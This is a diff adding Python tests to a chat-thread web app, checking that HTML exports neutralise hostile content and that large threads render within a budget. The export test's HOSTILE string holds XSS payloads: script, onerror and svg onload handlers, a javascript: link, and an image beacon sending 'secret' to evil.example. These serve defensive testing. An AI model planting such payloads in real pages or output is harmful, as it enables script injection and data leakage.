@@ -5,6 +5,7 @@ problem, never a 5xx, and nothing of one user's reaches the other."""
 from __future__ import annotations
 
 import json
+import re
 import shutil
 from urllib.parse import quote
 
@@ -83,3 +84,72 @@ def test_a_model_tool_call_nested_too_deep_leaves_the_thread_readable(env) -> No
         assert r.status_code == 200, (fmt, r.text[:200])
     hits = client.get("/api/search?q=zebrafish", headers=auth).json()["results"]
     assert [x["thread"] for x in hits] == [tid]
+
+
+HOSTILE = ('<script>alert(1)</script><img src=x onerror=alert(2)> [j](javascript:alert(3)) '
+           '![beacon](https://evil.example/leak.png?d=secret) ![app](/login?code=abc) <svg onload=alert(4)></svg>')
+
+
+def test_the_html_export_is_inert_and_never_fetches_even_saved_to_disk(env) -> None:
+    h, client, model, _, _ = env
+    auth = h.auth("alice")
+    tid = client.post("/api/threads", json={"title": "<script>alert(9)</script>"}, headers=auth).json()["id"]
+    model.steps.append(HOSTILE)
+    parse_sse(client.post(f"/api/threads/{tid}/messages", json={"content": HOSTILE}, headers=auth).text)
+    r = client.get(f"/api/threads/{tid}/export?format=html&download=true", headers=auth)
+    assert r.status_code == 200 and "script-src" not in r.headers["content-security-policy"]
+    page = r.text.lower()
+    assert "<script" not in page and "<svg" not in page and 'href="javascript' not in page
+    images = re.findall(r"<img\b[^>]*>", page)
+    assert images and all(re.search(r'\ssrc="(?!data:image/)', tag) is None for tag in images), images
+    # the file keeps its own policy when opened from disk, where no header comes with it
+    head = page.split("</head>")[0]
+    assert "http-equiv=\"content-security-policy\"" in head and "default-src 'none'" in head
+    assert head.index("content-security-policy") < head.index("<style>")
+    assert r.headers["content-disposition"] == 'attachment; filename="script_alert_9_script.html"'
+
+
+def _big_thread(h, client, answers: int, chars: int) -> str:
+    import time as _time
+
+    from datadesk.domain.records import Record
+
+    tid = client.post("/api/threads", json={"title": "big"}, headers=h.auth("alice")).json()["id"]
+    handle = h.rt.threads.get(tid, h.rt.users.by_token(h.tokens["alice"]).id, ["demo"])
+    table = "| n | v |\n|---|---|\n" + "".join(f"| {i} | {i * 7} |\n" for i in range(chars // 12))
+    for i in range(2 * answers):
+        handle.append(lambda seq, i=i: Record(seq=seq, ts=_time.time(), role="assistant" if i % 2 else "user",
+                                              content=table if i % 2 else f"show all rows {i}"))
+    return tid
+
+
+def test_many_long_answers_render_within_a_budget_newest_first(env) -> None:
+    """80 answers of 20 KB (a Markdown table each): a page of them rendered whole took 42 s of CPU
+    at limit=1000; past the budget the older ones come as plain text (the whole text, escaped)."""
+    from datadesk.api.threads import RENDER_BUDGET_CHARS
+
+    h, client, _, _, _ = env
+    tid = _big_thread(h, client, 80, 20_000)
+    r = client.get(f"/api/threads/{tid}?limit=1000", headers=h.auth("alice"))
+    assert r.status_code == 200
+    answers = [x for x in r.json()["records"] if x["role"] == "assistant"]
+    rendered = [a for a in answers if "<table>" in a["html"]]
+    plain = [a for a in answers if a["html"].startswith('<pre class="dd-plain">')]
+    assert len(rendered) + len(plain) == 80 and plain and rendered
+    assert sum(len(a["content"]) for a in rendered) <= RENDER_BUDGET_CHARS
+    assert answers.index(rendered[0]) > answers.index(plain[-1])  # the newest are the rendered ones
+    assert all(a["content"].splitlines()[-1].split("|")[1].strip() in a["html"] for a in plain)
+
+
+def test_the_html_export_of_a_large_thread_is_bounded_and_complete(env) -> None:
+    from datadesk.api.export import RENDER_BUDGET_CHARS
+
+    h, client, _, _, _ = env
+    tid = _big_thread(h, client, 80, 20_000)
+    r = client.get(f"/api/threads/{tid}/export?format=html", headers=h.auth("alice"))
+    assert r.status_code == 200
+    answers = r.text.split('<div class="answer">')[1:]
+    assert len(answers) == 80
+    rendered = [a for a in answers if a.startswith("<table>")]
+    assert rendered and len(rendered) * 20_000 <= RENDER_BUDGET_CHARS + 20_000
+    assert all(a.startswith('<pre class="dd-plain">') for a in answers if not a.startswith("<table>"))
